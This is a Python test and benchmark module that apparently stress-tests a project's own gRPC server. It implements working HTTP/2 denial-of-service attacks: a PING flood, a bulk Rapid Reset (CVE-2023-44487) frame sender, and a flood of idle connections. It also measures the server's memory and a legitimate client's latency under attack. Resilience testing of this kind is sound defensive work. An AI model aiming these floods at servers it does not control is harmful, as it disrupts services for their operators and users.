"""A raw HTTP/2 client for abusing a gRPC server in tests and benchmarks.

It speaks the protocol with ``h2`` over a plain socket, so it can do what no
well-behaved gRPC client does: flood PINGs, open and reset streams as fast as
the socket takes them (the "Rapid Reset" pattern, CVE-2023-44487), or hold
connections without ever finishing a handshake. Needs the ``h2`` package (a
development dependency of eventwire, not a runtime one).
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType
from typing import Any, Final, Self

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

_READ: Final = 65536


def grpc_headers(method: str, authority: str = "localhost") -> list[tuple[str, str]]:
    """The request headers of a gRPC call to ``method`` (``/pkg.Service/Method``)."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def rss_kib(pid: int) -> int:
    """Resident memory of process ``pid`` in KiB (Linux)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise RuntimeError(f"no VmRSS for pid {pid}")


@dataclass
class Seen:
    """What the server sent on one connection."""

    goaway: h2.events.ConnectionTerminated | None = None
    settings: dict[int, int] = field(default_factory=dict)
    pings_acked: int = 0
    resets: int = 0
    closed: bool = False
    """The server closed the TCP connection."""


class RawH2:
    """One client HTTP/2 connection, driven by hand. Not thread-safe."""

    def __init__(self, address: str, *, timeout: float = 5.0) -> None:
        host, _, port = address.rpartition(":")
        self.sock = socket.create_connection((host.strip("[]"), int(port)), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.seen = Seen()
        self.conn.initiate_connection()
        self.flush()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def ping(self, count: int = 1) -> None:
        for i in range(count):
            self.conn.ping(i.to_bytes(8, "big"))
        self.flush()

    def open_and_reset(self, method: str, count: int, *, batch: int = 100) -> int:
        """Open ``count`` streams to ``method`` and reset each at once; how many went out."""
        sent = 0
        headers = grpc_headers(method)
        try:
            while sent < count:
                for _ in range(min(batch, count - sent)):
                    stream_id = self.conn.get_next_available_stream_id()
                    self.conn.send_headers(stream_id, headers)
                    self.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                    sent += 1
                self.flush()
                self.poll(0)
                if self.seen.goaway is not None or self.seen.closed:
                    break
        except (OSError, h2.exceptions.ProtocolError):
            self.seen.closed = True
        return sent

    def poll(self, timeout: float) -> Seen:
        """Read and answer what the server sent, for up to ``timeout`` seconds."""
        deadline = time.monotonic() + timeout
        while not self.seen.closed:
            remaining = deadline - time.monotonic()
            self.sock.settimeout(max(remaining, 0.0) or 0.0001)
            try:
                data = self.sock.recv(_READ)
            except (TimeoutError, BlockingIOError):
                break
            except OSError:
                self.seen.closed = True
                break
            if not data:
                self.seen.closed = True
                break
            self._receive(data)
            if remaining <= 0:
                break
        return self.seen

    def wait_for(self, what: str, timeout: float) -> bool:
        """Poll until the server sent a GOAWAY (``"goaway"``) or closed (``"closed"``)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            self.poll(min(0.1, max(0.0, deadline - time.monotonic())))
            if (what == "goaway" and self.seen.goaway is not None) or (
                what == "closed" and self.seen.closed
            ):
                return True
            if self.seen.closed:
                return False
        return False

    def _receive(self, data: bytes) -> None:
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.seen.closed = True
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.seen.goaway = event
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                for key, changed in event.changed_settings.items():
                    self.seen.settings[int(key)] = changed.new_value
            elif isinstance(event, h2.events.PingAckReceived):
                self.seen.pings_acked += 1
            elif isinstance(event, h2.events.StreamReset):
                self.seen.resets += 1
        with contextlib.suppress(OSError):
            self.flush()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.close()


@contextlib.contextmanager
def idle_connections(address: str, count: int, *, preface: bool) -> Iterator[list[socket.socket]]:
    """``count`` TCP connections that stop after the HTTP/2 preface (or send nothing)."""
    host, _, port = address.rpartition(":")
    socks: list[socket.socket] = []
    try:
        for _ in range(count):
            try:
                sock = socket.create_connection((host, int(port)), timeout=5)
            except OSError:
                break
            socks.append(sock)
            if preface:
                with contextlib.suppress(OSError):
                    sock.sendall(
                        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
                        + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
                    )
        yield socks
    finally:
        for sock in socks:
            with contextlib.suppress(OSError):
                sock.close()


def rapid_reset(address: str, streams: int, *, method: str, chunk: int = 5000) -> tuple[int, str]:
    """Open and at once reset up to ``streams`` streams on one connection, as fast as
    the socket takes them: pre-encoded HEADERS + RST_STREAM frames, written in bulk.

    Returns how many went out and how the connection ended: ``"goaway"``,
    ``"closed"`` (the server hung up) or ``"open"``.
    """
    import struct

    import hpack

    block = hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(k, v) for k, v in grpc_headers(method)], huffman=False
    )
    headers_head = struct.pack(">I", len(block))[1:] + bytes([0x1, 0x4])  # HEADERS, END_HEADERS
    rst_head = b"\x00\x00\x04\x03\x00"  # RST_STREAM, length 4
    cancel = struct.pack(">I", 0x8)
    with RawH2(address) as conn:
        stream_id = conn.conn.get_next_available_stream_id()
        sent = 0
        while sent < streams:
            frames = []
            for _ in range(min(chunk, streams - sent)):
                sid = struct.pack(">I", stream_id)
                frames.append(headers_head + sid + block + rst_head + sid + cancel)
                stream_id += 2
            try:
                conn.sock.sendall(b"".join(frames))
            except OSError:
                conn.seen.closed = True
                break
            sent += len(frames)
            conn.poll(0)
            if conn.seen.goaway is not None or conn.seen.closed:
                break
        conn.poll(0.2)
        outcome = "goaway" if conn.seen.goaway else "closed" if conn.seen.closed else "open"
        return sent, outcome


class _CallLoop:
    """One call in a loop in a thread, with its latencies and errors recorded."""

    def __init__(self, pause: float) -> None:
        import threading

        self._pause = pause
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.latencies: list[float] = []
        self.errors: list[str] = []

    def _call(self) -> None:
        raise NotImplementedError

    def _close(self) -> None:
        pass

    def _run(self) -> None:
        import grpc

        while not self._stop.is_set():
            began = time.perf_counter()
            try:
                self._call()
            except grpc.RpcError as err:
                self.errors.append(f"{err.code()}: {err.details()}")
                continue
            self.latencies.append(time.perf_counter() - began)
            self._stop.wait(self._pause)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(30)
        self._close()

    def quantile(self, q: float) -> float:
        """The ``q`` quantile of the latencies in seconds; infinite when there are none."""
        ordered = sorted(self.latencies)
        if not ordered:
            return float("inf")
        return ordered[min(len(ordered) - 1, int(len(ordered) * q))]

    def p99(self) -> float:
        return self.quantile(0.99)


class LegitClient(_CallLoop):
    """A well-behaved client in a thread: TrackEvent in a loop, latencies recorded."""

    def __init__(self, address: str, *, timeout: float = 5.0) -> None:
        import grpc

        from eventwire.api import analytics_pb2, analytics_pb2_grpc

        super().__init__(pause=0.005)
        self._timeout = timeout
        self._channel = grpc.insecure_channel(address)
        self._stub = analytics_pb2_grpc.AnalyticsServiceStub(self._channel)
        self._event = analytics_pb2.TrackEventRequest(event_name="legit")

    def _call(self) -> None:
        self._stub.TrackEvent(self._event, timeout=self._timeout)

    def _close(self) -> None:
        self._channel.close()


class HealthProber(_CallLoop):
    """``grpc.health.v1.Health/Check`` in a loop in a thread, on a channel opened
    (and checked once) before it starts: what a load balancer sees during an attack."""

    def __init__(self, address: str, *, pause: float = 0.002) -> None:
        import grpc
        from grpc_health.v1 import health_pb2, health_pb2_grpc

        super().__init__(pause)
        self._request = health_pb2.HealthCheckRequest()
        self._channel = grpc.insecure_channel(address)
        stub: Any = health_pb2_grpc.HealthStub(self._channel)  # its stubs lack method types
        stub.Check(self._request, timeout=10)
        self._stub = stub

    def _call(self) -> None:
        self._stub.Check(self._request, timeout=10)

    def _close(self) -> None:
        self._channel.close()


@dataclass
class AbuseReport:
    """What :func:`abuse` measured; times in seconds, memory in KiB."""

    rss_before: int = 0
    rss_after: int = 0
    rss_peak: int = 0
    p99_before: float = 0.0
    p99_during: float = 0.0
    legit_calls_during: int = 0
    legit_errors: list[str] = field(default_factory=list)
    ping_flood: dict[str, float] = field(default_factory=dict)
    rapid_reset: dict[str, float] = field(default_factory=dict)
    connection_flood: dict[str, float] = field(default_factory=dict)
    outcomes: dict[str, list[str]] = field(default_factory=dict)


def _ping_flood(address: str, connections: int, pings: int) -> list[str]:
    outcomes = []
    for _ in range(connections):
        with RawH2(address) as conn:
            conn.ping(pings)
            got = conn.wait_for("goaway", 5)
            reason = conn.seen.goaway.additional_data if conn.seen.goaway else b""
            outcomes.append(reason.decode() if got and reason else "no goaway")
    return outcomes


def _rapid_resets(address: str, connections: int, streams: int) -> list[tuple[int, str]]:
    method = "/analytics.AnalyticsService/TrackEvent"
    return [rapid_reset(address, streams, method=method) for _ in range(connections)]


def _connection_flood(address: str, count: int, hold: float, pid: int) -> tuple[int, int]:
    with (
        idle_connections(address, count // 2, preface=True) as a,
        idle_connections(address, count - len(a), preface=False) as b,
    ):
        time.sleep(hold)
        return len(a) + len(b), rss_kib(pid)


def abuse(
    address: str,
    pid: int,
    *,
    ping_connections: int = 20,
    pings: int = 1000,
    reset_connections: int = 4,
    resets: int = 50_000,
    flood_connections: int = 500,
    hold: float = 1.0,
    baseline: float = 1.5,
) -> AbuseReport:
    """Ping flood, Rapid Reset and connection flood on ``address``, while a legitimate
    client keeps calling; the server's RSS (``pid``) before, at its peak, and after.

    The attacks run in a child process so that they do not compete with the
    legitimate client for this interpreter's GIL: its latencies are the server's.
    """
    import multiprocessing

    report = AbuseReport(rss_before=rss_kib(pid))
    with multiprocessing.get_context("spawn").Pool(1) as attacker:
        attacker.apply(time.sleep, (0,))  # the child is up before anything is timed
        with LegitClient(address) as calm:
            time.sleep(baseline)
        report.p99_before = calm.p99()
        report.legit_errors += calm.errors

        with LegitClient(address) as busy:
            began = time.perf_counter()
            pinged = attacker.apply(_ping_flood, (address, ping_connections, pings))
            elapsed = time.perf_counter() - began
            report.ping_flood = {
                "pings": ping_connections * pings,
                "pings_per_s": round(ping_connections * pings / elapsed),
            }
            report.rss_peak = max(report.rss_peak, rss_kib(pid))

            began = time.perf_counter()
            resets_done = attacker.apply_async(_rapid_resets, (address, reset_connections, resets))
            while not resets_done.ready():
                report.rss_peak = max(report.rss_peak, rss_kib(pid))
                time.sleep(0.05)
            reset_outcomes = resets_done.get()
            elapsed = time.perf_counter() - began
            sent_total = sum(sent for sent, _ in reset_outcomes)
            report.rapid_reset = {
                "streams": sent_total,
                "streams_per_s": round(sent_total / elapsed),
            }

            began = time.perf_counter()
            opened, rss = attacker.apply(_connection_flood, (address, flood_connections, hold, pid))
            report.rss_peak = max(report.rss_peak, rss)
            report.connection_flood = {
                "connections": opened,
                "connections_per_s": round(opened / max(1e-9, time.perf_counter() - began - hold)),
            }
    report.p99_during = busy.p99()
    report.legit_calls_during = len(busy.latencies)
    report.legit_errors += busy.errors
    report.outcomes = {
        "ping_flood": pinged,
        "rapid_reset": [f"{outcome} after {sent}" for sent, outcome in reset_outcomes],
        "connection_flood": [f"{opened} held {hold:g}s"],
    }
    time.sleep(1.0)  # let the server release what the floods held
    report.rss_after = rss_kib(pid)
    return report
